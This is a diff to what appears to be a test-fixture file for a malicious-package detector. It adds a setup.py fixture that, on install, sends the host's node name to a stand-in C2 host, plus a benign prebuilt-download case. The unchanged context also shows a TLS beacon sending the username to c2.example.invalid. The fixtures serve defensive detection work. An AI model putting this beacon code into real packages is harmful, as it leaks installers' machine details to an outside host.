@@ -667,6 +667,22 @@ tls = context.wrap_socket(raw, server_hostname="c2.example.invalid")
 tls.connect(("c2.example.invalid", 443))
 tls.send(("GET /l?u=" + getpass.getuser() + " HTTP/1.1\\r\\n\\r\\n").encode())
 """
+# The host's node name, read from uname() by field or by index, in a request at install.
+BEACON_UNAME_NODE = f"""\
+import os, platform, urllib.request
+from setuptools import setup
+urllib.request.urlopen("{C2}?n=" + platform.uname().node + "&m=" + os.uname()[1])
+setup(name="x", version="99.0")
+"""
+# The kind of machine (not which one) picks a prebuilt binary to download at install.
+PREBUILT_FOR_MACHINE = """\
+import os, platform, sys, urllib.request
+from setuptools import setup
+arch = platform.uname().machine
+url = f"https://releases.example.invalid/v1/lib-{sys.platform}-{arch}-{os.uname()[4]}.tar.gz"
+urllib.request.urlretrieve(url, "lib.tar.gz")
+setup(name="x", version="1.0")
+"""
 # A local function that sends what it is given, called with host facts on import.
 BEACON_THROUGH_HELPER = f"""\
 import getpass, platform, urllib.request
@@ -1289,9 +1305,11 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
             module(BEACON_TLS_SOCKET),
             setup_py(SHELL_LINE_BEACON),
             module(BEACON_THROUGH_CALLER),
+            setup_py(BEACON_UNAME_NODE),
         ],
         benign=[
             module(BUILD_COMMAND_OUTPUT),
+            setup_py(PREBUILT_FOR_MACHINE),
             module(HELPER_NOT_SENDING_IT),
             module(DOWNLOAD_HELPER_TO_CWD),
             module(SHELL_DOWNLOAD_TO_CWD),
